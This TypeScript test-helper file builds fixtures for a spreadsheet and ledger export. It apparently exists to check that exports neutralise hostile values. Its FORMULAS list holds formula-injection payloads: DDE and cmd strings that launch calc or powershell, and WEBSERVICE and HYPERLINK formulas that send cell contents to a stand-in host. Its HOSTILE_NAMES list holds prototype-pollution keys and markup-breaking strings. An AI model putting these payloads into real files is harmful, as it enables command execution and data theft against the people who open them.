import { computeCompleteness, type Facts } from "../../schemas/completeness";
import {
  buildRoundVersion,
  computeAsks,
  type ProfileName,
  type RoundDefinition,
  type RoundVersion,
} from "../../schemas/round";
import { buildSummary } from "../../schemas/summary";
import type { LedgerBranch } from "../../worker/exports/ledger.rules";
import type { Table } from "../../worker/exports/table.rules";
import { makeFacts } from "./facts";

export const STAMP = "2026-12-19T01:02:03.000Z";

export function publish(definition: RoundDefinition, profile: ProfileName = "literal"): RoundVersion {
  const stamp = { version: 1, publishedAt: "2026-11-27T01:00:00.000Z", profile };
  return buildRoundVersion(definition, computeAsks(definition, profile), stamp);
}

/** A branch as `settle` would have stored it with these facts. */
export function makeBranch(
  version: RoundVersion,
  code: string,
  facts: Partial<Facts> = {},
  more: Partial<LedgerBranch> = {},
): LedgerBranch {
  const judged = computeCompleteness(version, makeFacts(facts));
  return {
    code,
    name: `${code}党支部`,
    state: judged.state,
    summary: JSON.stringify(buildSummary(version, judged)),
    receiptNumber: null,
    receiptVersion: null,
    lastActivityAt: null,
    ...more,
  };
}

/** One line of a table as an object by its header. */
export function readLine({ header, rows }: Table, i: number): Record<string, unknown> {
  return Object.fromEntries(header.map((title, column) => [title, rows[i]?.[column]]));
}

const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"];
const CALLS = [
  "1+1",
  "SUM(A1:A9)",
  "cmd|' /C calc'!A0",
  'cmd|"/c calc"!A1',
  'HYPERLINK("http://example.org?x="&A1,"点此")',
  'WEBSERVICE("http://example.org/"&A2)',
  'IMPORTXML("http://example.org","//a")',
  'DDE("cmd","/C calc","x")',
  "@SUM(1)",
  "2+5+cmd|' /C powershell'!D2",
  "A1,B1",
  "支部",
];

/** Texts that a spreadsheet would run if it took them for formulas. */
export const FORMULAS = STARTS.flatMap((start) => CALLS.map((call) => start + call));

/** Names that have broken writers: markup, keys of every object, escapes, what cannot be seen or encoded. */
export const HOSTILE_NAMES = [
  "constructor",
  "__proto__",
  "toString",
  "hasOwnProperty",
  "<b>&amp;\"'</b>]]>",
  "</t></si><si><t>",
  "&#x3D;1+1",
  "第一\n第二",
  "  两端有空格  ",
  "\u202e倒写\u202c",
  "a\u0000b\u0001c\u001fd",
  "半个\ud83d",
  "\udc00半个",
  "\uffff\ufffe",
  "𠮷👨‍👩‍👧",
  "001",
  "1e5",
  "2026-12-01",
  "TRUE",
  "#REF!",
  "长".repeat(300),
];
